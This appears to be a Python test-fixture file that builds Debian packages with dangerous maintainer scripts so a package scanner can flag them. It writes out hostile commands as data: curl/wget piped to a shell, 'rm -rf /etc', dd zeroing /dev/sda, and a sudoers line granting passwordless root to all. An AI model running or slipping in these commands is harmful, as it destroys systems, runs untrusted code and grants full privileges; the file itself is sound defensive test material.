"""Debs whose maintainer scripts do what an operator would want to be told before."""

from .case import case
from .sound_debs import plain

SHELL = "#!/bin/sh\nset -e\n"


def script(name, line, ids, kind="preinst", exit=(0, 5), **more):
    @case(f"script-{name}", ids, exit=exit, evidence=(kind, line.split("\\")[0].strip()), **more)
    def build(shop):
        plain().script(kind, f"{SHELL}{line}\nexit 0\n").write(shop.folder)


script("removes-system-folder", "rm -rf /etc/modprobe.d", ("script-deletes-system-folder|script-deletes-system-files",))
script("downloads-and-runs", "curl -fsSL https://example.invalid/setup.sh | sh", ("script-runs-download",))
script("downloads-by-wget", "wget -qO- https://example.invalid/setup.sh | bash", ("script-runs-download",))
script("mode-777", "chmod -R 777 /opt/tops", ("script-makes-world-writable",), kind="postinst")
script("sets-setuid", "chmod u+s /opt/tops/bin/demo", ("script-makes-setuid",), kind="postinst")
script("runs-pip", "pip3 install --upgrade numpy", ("script-runs-pip",), kind="postinst")
script("runs-apt", "apt-get install -y libelf1", ("script-runs-package-manager",), kind="postinst")
script("loads-kernel-module", "modprobe enflame", ("script-handles-kernel-modules",), kind="postinst")
script("reboots", "reboot", ("script-reboots",), kind="postinst")
script("writes-to-disk", "dd if=/dev/zero of=/dev/sda bs=1M", ("script-writes-to-disk-device",), kind="postinst")
script("opens-sudo", "echo 'ALL ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", ("script-changes-sudoers",))
script("folded-line", "rm -rf \\\n  /etc", ("script-deletes-system-folder",))


@case("script-is-binary", ("script-is-binary",), evidence=("preinst",))
def _(shop):
    plain().member("preinst", shop.native.library("libdemo.so"), 0o755).write(shop.folder)


@case("script-too-long", ("script-too-long",))
def _(shop):
    plain().script("postinst", SHELL + ": " + "x" * (20 << 10) + "\nexit 0\n").write(shop.folder)


@case("script-runs-downloader", ("script-runs-downloader",), evidence=("postinst", "/usr/sbin/get-demo"))
def _(shop):
    # As nvidia-cudnn's does; a program that nobody runs, and one that is only named, are no installers.
    downloads = "#!/bin/bash\nset -e\nget=\"wget -q https://example.com/demo.tar.xz -O /tmp/demo\"\n$get\n"
    deb = plain().script("postinst", SHELL + "echo get-other\nif [ \"$1\" = configure ]; then\n    get-demo --quiet || true\nfi\n")
    for name in ("/usr/sbin/get-demo", "/usr/bin/get-other", "/usr/bin/get-more"):
        deb.file(name, downloads.encode(), 0o755)
    deb.write(shop.folder)
